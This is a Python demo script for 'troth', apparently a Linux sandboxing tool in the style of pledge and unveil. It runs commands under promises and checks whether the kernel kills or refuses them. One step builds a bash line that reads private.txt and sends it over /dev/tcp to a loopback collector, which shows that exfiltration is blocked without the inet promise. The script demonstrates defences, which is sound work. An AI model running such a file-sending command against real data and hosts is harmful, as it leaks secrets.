#!/usr/bin/env python3
"""Show what troth does, on this machine, in a dozen steps; `make demo` runs it.

Each step prints a command, runs it, prints what it said, and compares that with what is promised
here. The exit status is 0 when everything was as described, 1 when something was not, and 3 when
this kernel cannot enforce promises at all.
"""

from __future__ import annotations

import json
import os
import platform
import re
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading

COLOUR = sys.stdout.isatty() and "NO_COLOR" not in os.environ and os.environ.get("TERM") != "dumb"
KILLED = (128 + 31, 128 + 9)  # by SIGSYS; by SIGKILL where the program could have lived through that
READER = "stdio rpath"
SHELL = "stdio rpath proc exec"


def styled(text: str, code: str) -> str:
    return f"\033[{code}m{text}\033[0m" if COLOUR else text


class Demo:
    """Runs commands in a directory, and counts what was not as described."""

    def __init__(self, directory: str) -> None:
        self.directory = directory
        self.steps = 0
        self.wrong = 0
        self.env = {**os.environ, "LC_ALL": "C", "DEMO_PYTHON": sys.executable}

    def step(self, title: str) -> None:
        self.steps += 1
        print(f"\n{styled(f'{self.steps}. {title}', '1')}", flush=True)

    def say(self, line: str) -> None:
        print(f"   -> {line}", flush=True)

    def run(self, command: str, *expected: str, status: tuple[int, ...] = (0,), shown: str = "") -> str:
        """Run a shell command, show it and what it says, and compare with what is expected of it."""
        print(styled(f"   $ {shown or command}", "36"), flush=True)
        # `troth` is this installation's, wherever PATH leads.
        troth = 'troth() { "$DEMO_PYTHON" -m troth "$@"; }\n'
        done = subprocess.run(
            ["sh", "-c", troth + command],
            cwd=self.directory,
            env=self.env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
        print(textwrap.indent(done.stdout, "   "), end="", flush=True)
        for pattern in expected:
            self.check(bool(re.search(pattern, done.stdout, re.MULTILINE)), f"the output should have /{pattern}/")
        self.check(done.returncode in status, f"exit status {done.returncode}, not {' or '.join(map(str, status))}")
        return done.stdout

    def check(self, good: bool, otherwise: str) -> None:
        if not good:
            self.wrong += 1
            print(styled(f"   !! {otherwise}", "31"), flush=True)

    def path(self, name: str) -> str:
        return os.path.join(self.directory, name)


class Collector:
    """A service on the loopback address that keeps what it is sent."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.received: list[bytes] = []
        self._arrived = threading.Semaphore(0)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            connection, _ = self._socket.accept()
            with connection, connection.makefile("rb") as stream:
                self.received.append(stream.read())
            self._arrived.release()

    def wait(self) -> bytes:
        """What came last; empty when nothing comes."""
        return self.received[-1] if self._arrived.acquire(timeout=10) else b""


PLEDGED = """\
import socket, troth

troth.unveil("{directory}/public", "r")
troth.pledge("stdio rpath", violation="errno")

print(open("public/hello.txt").read(), end="")
for attempt in (lambda: open("private.txt"), socket.socket, lambda: troth.pledge("stdio rpath inet")):
    try:
        attempt()
    except OSError as error:
        print(f"{{type(error).__name__}}: {{error}}")
"""


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="troth-") as directory:
        directory = os.path.realpath(directory)
        os.mkdir(os.path.join(directory, "public"))
        for name, text in (("public/hello.txt", "hello\n"), ("private.txt", "secret\n")):
            with open(os.path.join(directory, name), "w") as stream:
                stream.write(text)
        return show(Demo(directory))


def show(demo: Demo) -> int:
    print("A program gives its word on what it will not do, and the kernel holds it to that.")

    demo.step("What can this kernel enforce?")
    report = subprocess.run(
        [sys.executable, "-m", "troth", "doctor", "--format", "json"], capture_output=True, text=True
    )
    if report.returncode == 3:
        print("   it has no system call filters; nothing here would be enforced")
        return 3
    unveils = json.loads(report.stdout)["would"]["unveil"].startswith("enforced")
    demo.run("troth doctor | tail -n 6", "^pledge +enforced")

    demo.step("A pipeline: it may compute, read files, fork, and start programs.")
    demo.run(f"troth run -p \"{SHELL}\" -- sh -c 'ls /usr | sort | head -n 3'", "^bin$")

    collector = Collector()
    home = f"bash -c 'echo \"$(<private.txt)\" > /dev/tcp/127.0.0.1/{collector.port}'"
    demo.step("Then it turns bad, and sends a file away. That was not promised, so it is killed.")
    demo.run(f'troth run -p "{SHELL}" -- {home}', r"^bash\[\d+\]: socket\(.*needs promise `inet`", status=KILLED)
    demo.check(not collector.received, "something was sent")
    demo.say("nothing was sent; the line above names what would have allowed it")

    demo.step("With that promise, it does.")
    demo.run(f'troth run -p "{SHELL} inet" -- {home}')
    received = collector.wait()
    demo.check(received == b"secret\n", f"{received!r} arrived")
    demo.say(f"the other side received {received!r}")

    demo.step("A reader may not remove.")
    demo.run(f'troth run -p "{READER}" -- rm private.txt', r"^rm\[\d+\]: unlink.*needs promise `cpath`", status=KILLED)
    demo.check(os.path.exists(demo.path("private.txt")), "the file is gone")

    demo.step("Refuse with an error instead of killing.")
    demo.run(f'troth run -p "{READER}" --on-violation errno -- rm private.txt', "Operation not permitted", status=(1,))

    demo.step("unveil: what it may read, it may read here only.")
    veiled = f'troth run -p "{READER}" -v "$PWD/public:r" -- cat public/hello.txt private.txt'
    if unveils:
        demo.run(veiled, "^hello$", "^cat: private.txt: Permission denied$", status=(1,))
    else:
        demo.run(veiled, "^troth: error: unveil", status=(3,))
        demo.say("this kernel has no Landlock: troth refuses, rather than to enforce half of it")

    demo.step("Shared with all that it starts: a shell script is held to the same.")
    demo.run(
        f'troth run -p "{SHELL}" -- sh -c "sh -c \'rm private.txt\'; echo and on"', "needs promise `cpath`", "^and on$"
    )
    demo.check(os.path.exists(demo.path("private.txt")), "the file is gone")

    if unveils:
        demo.step("The same from Python, for the program itself.")
        source = PLEDGED.format(directory=demo.directory)
        with open(demo.path("reader.py"), "w") as stream:
            stream.write(source)
        print(textwrap.indent(source.rstrip(), "   | ", lambda line: True), flush=True)
        refused = ("PermissionError: .*Permission denied", "PermissionError: .*Operation not permitted")
        python = shlex.quote(sys.executable)
        demo.run(f"{python} reader.py", "^hello$", *refused, "^IncreaseError: ", shown="python3 reader.py")

    demo.step("A mistake is told before anything is done.")
    demo.run('troth run -p "stdio rpaht" -- ls', "unknown promise `rpaht`", "closest promise is `rpath`", status=(2,))

    demo.step("What is it worth to deny a system call? The same program with each C library here.")
    fragility = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fragility.py")
    if shutil.which("gcc") and platform.machine() == "x86_64":
        command = f"{shlex.quote(sys.executable)} {shlex.quote(fragility)}"
        cells = ("^  open .*", r"^  all 11 ways( +refused)+$", r"^  all 11 ways( +works)+$")
        demo.run(command, *cells, shown="python3 examples/fragility.py")
    else:
        demo.say("the demonstration is a C program for x86_64, and gcc is not here: nothing to show")

    print()
    if demo.wrong:
        print(styled(f"{demo.wrong} checks failed", "31"))
        return 1
    print(styled(f"all {demo.steps} steps went as described", "32"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
